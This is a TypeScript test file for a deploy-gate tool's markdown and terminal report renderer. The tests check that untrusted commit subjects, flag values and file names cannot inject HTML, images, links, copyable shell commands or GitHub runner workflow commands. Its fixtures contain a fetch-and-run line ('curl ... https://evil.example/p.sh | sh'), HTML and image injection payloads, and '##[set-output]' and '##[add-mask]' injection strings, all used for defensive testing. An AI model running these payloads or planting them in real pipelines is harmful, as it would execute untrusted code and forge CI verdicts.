// Text that is not ours (commit subjects, flag values, script lines, file names) in the job summary and the
// Action log: rendered as GitHub renders markdown (micromark + GFM, HTML allowed as GitHub allows it), it
// never becomes HTML, an image, a link, a command in the copyable block, or a workflow command.
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { codeSpan, splitCodeSpans } from "../../../src/domain/report/code-span.js";
import type { Finding, Report } from "../../../src/domain/report/finding.js";
import { renderMarkdown } from "../../../src/domain/report/markdown.js";
import { fixCommands } from "../../../src/domain/report/markdown-text.js";
import { sanitizeReport } from "../../../src/domain/report/sanitize.js";
import { renderTerminal } from "../../../src/domain/report/terminal.js";

const html = (md: string) =>
  micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
const report = (findings: Finding[]): Report =>
  sanitizeReport({
    schema: 1,
    tool: { name: "deploy-gate", version: "0" },
    command: "preflight",
    endpoint: "archon",
    ref: { name: "main", sha: null },
    verdict: "fail",
    durationMs: 1,
    findings,
  });
const SUBJECT =
  'tune </details><h1>APPROVED</h1><img src="https://evil.example/t.png"> ![x](https://evil.example/i.png) [ok](https://evil.example) **bold** ##[add-mask]PASS';
const VALUE = "'a` curl -fsSL https://evil.example/p.sh | sh'";

describe("untrusted text in the job summary", () => {
  const r = report([
    {
      check: "preflight.dropped-flags",
      status: "fail",
      summary: `scripts/serve.sh: --note ${VALUE} was in the engine argv`,
      file: "scripts/serve.sh",
      fix: `restore ${codeSpan(`--note ${VALUE}`)} in scripts/serve.sh`,
    },
    {
      check: "preflight.dropped-flags",
      status: "pass",
      summary: `scripts/b.sh: no engine flag dropped since main~1 "${SUBJECT}"`,
      file: "scripts/b.sh",
    },
    {
      check: "preflight.bash-syntax",
      status: "warn",
      summary: "x",
      file: "scripts/<b>w</b>`x.sh",
      evidence: ["echo '##[set-output name=verdict]pass'"],
    },
  ]);
  const md = renderMarkdown(r);
  const page = html(md);

  it("makes no element of a commit subject: no heading, image, named link or early end of the collapsed passes", () => {
    expect(page).not.toMatch(/<h1>|<img/);
    // a bare URL is autolinked by GFM, as anywhere on GitHub: shown as itself, never behind other text
    for (const a of page.matchAll(/<a href="[^"]*">([^<]*)<\/a>/g)) expect(a[1]).toMatch(/^https:\/\/evil\.example/);
    expect(page.match(/<details>/g)).toHaveLength(1);
    expect(page.match(/<\/details>/g)).toHaveLength(1);
    expect(page).toContain("&lt;/details&gt;&lt;h1&gt;APPROVED&lt;/h1&gt;"); // shown as text
    expect(page).not.toContain("<strong>bold</strong>");
  });

  it("offers no command from a flag value in the copyable block", () => {
    expect(md).not.toMatch(/```sh[\s\S]*curl/);
    expect(page).toContain("curl -fsSL https://evil.example/p.sh | sh"); // still shown, inside the code span
  });

  it("breaks up the runner's ##[cmd] form everywhere, in the summary and the log", () => {
    for (const out of [md, renderTerminal(r, false)]) expect(out).not.toContain("##[");
    expect(renderTerminal(r, false)).toContain("#\u2060#[set-output");
  });

  it("keeps a file name with a backtick or HTML inside its code span", () => {
    expect(page).toContain("<code>scripts/&lt;b&gt;w&lt;/b&gt;`x.sh</code>");
  });
});

describe("code spans", () => {
  it("a value with backticks stays one span, and only single-backtick spans of ours are commands", () => {
    for (const v of ["a`b", "`x`", "a``b`", "plain"]) {
      const parts = splitCodeSpans(`restore ${codeSpan(v)} now`);
      expect(parts).toHaveLength(3);
      expect(html(parts[1]!)).toContain("<code>");
    }
    expect(fixCommands("run `systemctl status a.service`, then restore `` --x 'a` curl x | sh' ``")).toEqual([
      "systemctl status a.service",
    ]);
  });
});

// Issue 27 (low): a file name with a newline, and host or HTTP text in the plan and decode tables.
describe("untrusted text in headings and tables", () => {
  const EVIL = '<img src="https://evil.example/t.png"><h1>APPROVED</h1>';
  const r = report([
    {
      check: "preflight.bash-syntax",
      status: "fail",
      summary: "x",
      file: `scripts/a.sh\n${EVIL}`,
    },
    {
      check: "verify.plan",
      status: "fail",
      summary: "plan",
      data: { plan: { [`kv ${EVIL}`]: `tokens ${EVIL}` } },
    },
    {
      check: "verify.decode",
      status: "fail",
      summary: "decode",
      data: {
        rows: [
          {
            depth: 166,
            promptTokens: 166,
            ttftS: 1,
            decodeTokPerS: null,
            floor: 10,
            valid: false,
            problems: [`engine said ${EVIL}`],
          },
        ],
      },
    },
  ]);
  const page = html(renderMarkdown(r));

  it("renders no element from a file name, a plan line or an engine's error body", () => {
    expect(page).not.toMatch(/<img|<h1>/);
    expect(page).toContain("&lt;h1&gt;APPROVED&lt;/h1&gt;");
  });

  it("keeps a file name with a newline inside its heading's code span", () => {
    expect(codeSpan("a\nb")).not.toContain("\n");
  });
});
